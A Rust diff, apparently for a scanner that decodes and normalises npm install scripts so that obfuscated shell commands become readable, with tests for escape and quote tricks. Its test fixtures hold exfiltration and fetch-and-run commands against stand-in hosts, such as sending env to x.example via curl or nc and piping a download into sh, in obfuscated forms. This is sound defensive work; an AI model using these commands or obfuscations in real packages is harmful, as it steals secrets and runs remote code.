@@ -44,7 +44,10 @@ fn install_script_view(data: &[u8]) -> Option<Vec<u8>> {
     let mut any = false;
     for (name, span) in script_spans(data) {
         if run.contains(&name) {
-            unescape_in_place(&data[span.clone()], &mut view[span]);
+            write_command(
+                &data[span.start - 1..span.end + 1],
+                &mut view[span.start..span.end + 1],
+            );
             any = true;
         }
     }
@@ -67,27 +70,44 @@ fn run_on_install(scripts: &Map<String, Value>) -> BTreeSet<String> {
     run
 }
 
-/// Writes `escaped` (a JSON string's inner bytes) into `out` (as long) as the text it
-/// stands for, each escape padded with spaces to its own length: `\"` becomes ` "`, and
-/// `\n` becomes `; ` (a command separator, as a line break is to a shell).
-fn unescape_in_place(escaped: &[u8], out: &mut [u8]) {
-    let mut i = 0;
-    while i < escaped.len() {
-        if escaped[i] == b'\\' && i + 1 < escaped.len() {
-            let (a, b) = match escaped[i + 1] {
-                b'n' | b'r' => (b';', b' '),
-                b't' => (b' ', b' '),
-                c @ (b'"' | b'\\' | b'/') => (b' ', c),
-                c => (b'\\', c),
-            };
-            out[i] = a;
-            out[i + 1] = b;
-            i += 2;
+/// Writes the command a JSON string stands for into `out`, the string's span with its
+/// closing quote: decoded, left-aligned, padded with spaces and ended by `;`, so that
+/// an escape cannot split a word (`\u0073h` is `sh`) and two commands on one line stay
+/// two. A decoded line break becomes `;`, as it separates commands in a shell, and
+/// keeps every later line where it is. Decoding never lengthens a JSON string.
+fn write_command(quoted: &[u8], out: &mut [u8]) {
+    let Ok(command) = serde_json::from_slice::<String>(quoted) else {
+        return;
+    };
+    let end = out.len() - 1;
+    for (slot, byte) in out[..end].iter_mut().zip(shell_words(&command)) {
+        *slot = if byte == b'\n' || byte == b'\r' {
+            b';'
         } else {
-            out[i] = escaped[i];
-            i += 1;
+            byte
+        };
+    }
+    out[end] = b';';
+}
+
+/// The command with the quoting a shell removes inside a word taken out, so that
+/// `e""nv`, `e''nv` and `e\\nv` read as `env`: empty quote pairs, and a backslash
+/// before a letter or digit. Only ever shortens the command.
+fn shell_words(command: &str) -> Vec<u8> {
+    let bytes = command.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        match (bytes[i], bytes.get(i + 1)) {
+            (b'"', Some(b'"')) | (b'\'', Some(b'\'')) => i += 2,
+            (b'\\', Some(next)) if next.is_ascii_alphanumeric() => i += 1,
+            (byte, _) => {
+                out.push(byte);
+                i += 1;
+            }
         }
     }
+    out
 }
 
 /// Each `"name": "command"` pair of the top-level `scripts` object(s), with the byte
@@ -217,7 +237,7 @@ mod tests {
         assert_eq!(v.len(), json.len());
         assert_eq!(v.lines().count(), json.lines().count());
         let line = v.lines().nth(4).unwrap();
-        assert_eq!(line.trim(), "curl -d  \"$(env) \" https://x.example");
+        assert_eq!(line.trim(), "curl -d \"$(env)\" https://x.example  ;");
         assert!(!v.contains("t.example"), "{v}");
         assert!(!v.contains("name"), "{v}");
     }
@@ -230,6 +250,25 @@ mod tests {
         assert!(v.contains("npm run x"), "{v}");
         assert!(v.contains("wget -q http://y.example/a"), "{v}");
         assert!(!v.contains("tsc"), "{v}");
+    }
+
+    #[test]
+    fn escapes_cannot_split_a_word_and_commands_on_one_line_stay_apart() {
+        let v = view(r#"{"scripts": {"preinstall": "curl https:\/\/x.example\/a | \u0073h", "install": "env | nc x 1"}}"#).unwrap();
+        let commands: Vec<&str> = v.split(';').map(str::trim).collect();
+        assert_eq!(
+            commands[..2],
+            ["curl https://x.example/a | sh", "env | nc x 1"],
+            "{v}"
+        );
+        let v = view(r#"{"scripts": {"install": "curl -d \"$(e\"\"nv)\" x; e''nv | nc x 1; e\\nv | nc y 1"}}"#).unwrap();
+        assert!(
+            v.contains(r#"curl -d "$(env)" x; env | nc x 1; env | nc y 1"#),
+            "{v}"
+        );
+        let v = view("{\"scripts\": {\"postinstall\": \"echo a\\nenv | curl -d @- x\"}}").unwrap();
+        assert!(v.contains("echo a;env | curl -d @- x"), "{v}");
+        assert_eq!(v.lines().count(), 1);
     }
 
     #[test]
